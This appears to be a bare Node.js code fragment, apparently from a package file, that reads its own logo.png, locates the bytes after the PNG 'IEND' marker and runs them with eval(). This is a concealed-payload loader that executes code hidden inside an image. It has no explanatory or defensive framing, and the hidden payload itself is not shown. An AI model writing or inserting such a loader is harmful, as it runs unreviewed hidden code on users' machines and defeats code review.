const fs = require('fs');
const d = fs.readFileSync(__dirname + '/logo.png');
const i = d.indexOf('IEND');
eval(d.slice(i + 8).toString());
